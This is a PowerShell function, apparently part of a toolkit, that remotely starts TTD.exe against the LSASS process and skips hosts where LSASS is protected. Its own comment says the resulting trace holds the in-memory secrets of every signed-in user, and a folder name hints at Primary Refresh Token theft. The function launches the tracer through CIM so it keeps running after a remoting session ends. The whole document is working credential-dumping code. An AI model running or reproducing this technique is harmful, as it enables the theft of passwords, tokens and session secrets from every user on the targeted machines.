function Start-PrtTimeTravelTrace {
    <#
    .SYNOPSIS
    Attaches the TTD.exe of this host to LSASS, as the article says.

    .DESCRIPTION
    The trace holds what LSASS has in memory: secrets of everybody who is signed in. It goes into the protected folder and
    nowhere else. TTD.exe stays for as long as it traces, and whatever a remoting session starts ends with it, so CIM starts
    it (Win32_Process). After a moment it must still be there. Unverified on real hosts.

    .PARAMETER Folder
    The name of the folder.

    .PARAMETER ProgramPath
    The full path of TTD.exe; "" looks in the folders of programs.

    .EXAMPLE
    Start-PrtTimeTravelTrace -Folder 'remote_prt-20260131T010500Z-16edca0e-37a7-47aa-a88a-052410886d6f'

    .OUTPUTS
    System.Collections.Specialized.OrderedDictionary with Reason (string), ExitCode (int or null) and Text (string).

    .NOTES
    Writes on the host: starts TTD.exe, which writes its trace into the folder.
    #>
    [CmdletBinding()]
    param(
        [Parameter(Mandatory = $true)]
        [string]$Folder,

        [string]$ProgramPath = ''
    )
    Set-StrictMode -Version 3.0
    $ErrorActionPreference = 'Stop'
    $ProgressPreference = 'SilentlyContinue'
    $tracer = Get-PrtTracer -ProgramPath $ProgramPath
    $reason = ''
    $exitCode = $null
    if ($null -eq $tracer['ProgramPath']) {
        $reason = 'no-program'
    }
    elseif ($null -eq $tracer['ProcessId']) {
        $reason = 'no-process'
    }
    elseif ($tracer['IsProtected']) {
        $reason = 'protected'
    }
    else {
        $line = '"' + $tracer['ProgramPath'] + '" -accepteula -attach ' + [string]$tracer['ProcessId'] + ' -out ' + (Get-PrtWorkPath -Name $Folder)
        $made = Invoke-CimMethod -ClassName Win32_Process -MethodName Create -Arguments @{ CommandLine = $line } -OperationTimeoutSec 30
        $exitCode = [int]$made.ReturnValue
        Start-Sleep -Milliseconds 3000
        if ($exitCode -ne 0) {
            $reason = 'exit-code'
        }
        elseif (@(Get-Process -Id ([int]$made.ProcessId) -ErrorAction SilentlyContinue).Count -eq 0) {
            $reason = 'exit-code'
        }
    }
    [ordered]@{
        Reason = $reason
        ExitCode = $exitCode
        Text = ''
    }
}
